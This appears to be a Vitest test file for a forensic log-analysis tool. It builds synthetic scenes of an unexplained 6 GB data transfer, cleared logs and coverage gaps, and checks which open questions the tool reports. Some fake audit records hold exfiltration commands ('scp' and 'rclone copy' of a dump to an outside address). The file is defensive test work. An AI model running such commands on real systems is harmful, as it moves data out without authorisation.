import { describe, expect, it } from 'vitest';
import { memoryStore } from '../../src/store/memory.ts';
import { estimateClocks } from '../../src/trace/clocks.ts';
import { gapsIn } from '../../src/trace/coverage.ts';
import { hostNames } from '../../src/trace/hosts.ts';
import { machineLogs } from '../../src/trace/machine-logs.ts';
import { movementsOf, readMovements } from '../../src/trace/movements.ts';
import { sourcesOf } from '../../src/trace/sources.ts';
import { DAY, HOUR, IMPACT, MINUTE, Scene } from './scene.ts';

/** What is asked for is not there, and what is there is not asked for. */

/** A server that answers the firewall's address 10.0.0.21, and one transfer of 6 GB that nobody is known to have made. */
const transfer = (): Scene => {
  const scene = new Scene();
  scene.chatter();
  scene.logons();
  scene.add('inventory', -20 * DAY, 'other', { 'host.name': 'db1', 'host.ip': ['10.0.0.21'] });
  scene.flow(-DAY, '10.0.0.21', '198.51.100.99', 2222, 6e9);
  return scene;
};

/** Records of auditd that name no host, kept in a folder of its name. */
const audit = (scene: Scene, at: number, command: string): string =>
  scene.add('audit', at, 'process-start', {
    'log.file.path': 'logs/linux/db1/audit.log',
    'process.command_line': command,
  });

const unansweredOf = async (scene: Scene): Promise<string[]> =>
  ((await scene.run()).unanswered ?? []).map(({ en }) => en);

describe('a log of the programs of a machine', () => {
  it('without it, the log of leases is asked for, and no log says what for', async () => {
    const result = await transfer().run();
    expect(result.unanswered?.map(({ en }) => en)).toEqual([
      expect.stringMatching(/^Open: how its actor came by the address\. No VPN log or DNS or DHCP log covers/),
    ]);
    expect(result.exfiltration.because.en).toContain('no log says what for');
  });

  it('its command that names the destination is told instead', async () => {
    const scene = transfer();
    audit(scene, -DAY - 2 * MINUTE, 'ping 198.51.100.9');
    audit(scene, -DAY - MINUTE, 'scp -P 2222 dump.gz u0@198.51.100.99:in/');
    const result = await scene.run();
    expect(result.unanswered?.map(({ en }) => en)).toEqual([
      expect.stringContaining(
        'The process log of db1 has “scp -P 2222 dump.gz u0@198.51.100.99:in/” at 2031-03-03 21:59',
      ),
    ]);
    expect(result.exfiltration.because.en).toContain('and the process log of db1 has “scp');
    expect(result.exfiltration.because.en).not.toContain('no log says');
  });

  it('covers without a command that names it: said so', async () => {
    const scene = transfer();
    audit(scene, -DAY - MINUTE, 'rclone copy dump.gz remote:in');
    expect(await unansweredOf(scene)).toEqual([
      expect.stringContaining('Its process log covers the time, but no command in it names 198.51.100.99'),
    ]);
  });

  it('of another time does not cover it', async () => {
    const scene = transfer();
    audit(scene, -20 * DAY, 'ls');
    expect(await unansweredOf(scene)).toEqual([expect.stringContaining('No VPN log or DNS or DHCP log')]);
  });

  it('is the host’s that its records name, or its path', async () => {
    const scene = new Scene();
    scene.add('a', 0, 'process-start', { 'host.name': 'APP1.corp.example' });
    scene.add('b', 0, 'process-start', { 'log.file.path': 'logs/app2/var/log/audit/audit.log' });
    scene.add('c', 0, 'login', { 'host.name': 'app2' });
    scene.add('d', 0, 'process-start', { 'log.file.path': 'logs/app3/audit.log' });
    const logs = await machineLogs(memoryStore(scene.events), () => 0);
    expect(logs.hosts).toEqual(['app1', 'app2', 'app3']);
    expect(await logs.starts('app2', IMPACT - HOUR, IMPACT + HOUR)).toHaveLength(1);
    expect(await logs.starts('app4', IMPACT - HOUR, IMPACT + HOUR)).toBeUndefined();
  });
});

it('who opens the screen of a machine does not sit at it', async () => {
  const scene = new Scene();
  for (let day = 1; day <= 5; day += 1) {
    scene.logon(-day * DAY, 'FS01', 'a.berg', '10.0.9.7', '3');
    scene.flow(-day * DAY, '10.0.9.7', '10.0.1.12', 445);
  }
  const namesOf = async (): Promise<readonly string[]> => {
    const store = memoryStore(scene.events);
    const raw = await readMovements(store);
    const clocks = await estimateClocks(store, [], raw, await sourcesOf(store));
    const names = await hostNames(store, movementsOf(raw, clocks.offsetOf), []);
    return names.namesOf('10.0.1.12', IMPACT);
  };
  expect(await namesOf()).toEqual(['fs01']);
  scene.logon(-HOUR, 'FS01', 'adm', '10.0.1.12', '10');
  expect(await namesOf()).toEqual([]);
});

describe('gaps', () => {
  const quarter = 15 * MINUTE;
  /** Bursts of six records, then nothing for a while that differs from time to time. */
  const bursts = (isOut: (at: number) => boolean) => {
    const counts = Array.from({ length: 96 * 20 }, (_, i) => ({ start: i * quarter, count: 0 }));
    let [at, n] = [0, 0];
    while (at < counts.length) {
      const bucket = counts[at];
      if (bucket !== undefined && !isOut(bucket.start)) bucket.count = 6;
      n += 1;
      at += n % 40 === 0 ? 10 : 1 + ((n * 7) % 3 === 0 ? 1 : 0);
    }
    return counts;
  };

  it('the longest of many quiets is none; a silence far beyond them is', () => {
    expect(
      gapsIn(
        bursts(() => false),
        quarter,
      ),
    ).toEqual([]);
    const out = (at: number): boolean => at >= 10 * DAY && at < 10 * DAY + 18 * HOUR;
    expect(gapsIn(bursts(out), quarter)).toHaveLength(1);
  });
});

describe('logs that begin late', () => {
  it('with their clearing', async () => {
    const scene = new Scene();
    scene.chatter();
    for (const host of ['app01', 'fs01']) {
      scene.add(host, -DAY, 'log-cleared', { 'host.name': host });
      for (let at = -DAY + HOUR; at < 0; at += HOUR) scene.logon(at, host, 'svc', '10.0.0.78', '3', host);
    }
    const open = await unansweredOf(scene);
    expect(open).toContainEqual(
      'Open: what was done there before. case/app01.log, case/fs01.log: begin 2031-03-03 22:00:00 UTC with the clearing of the log; its backup, or what a collector kept of it, would tell.',
    );
  });

  it('long after all others', async () => {
    const late = async (since: number): Promise<string[]> => {
      const scene = new Scene();
      scene.chatter();
      for (let at = since; at < 2 * HOUR; at += 2 * HOUR) scene.logon(at, 'FS01', 'svc-scan', '10.0.0.78', '3');
      return (await unansweredOf(scene)).filter((text) => text.startsWith('No authentication log reaches back'));
    };
    expect(await late(-10 * DAY)).toHaveLength(1);
    expect(await late(-30 * DAY)).toEqual([]);
  });
});
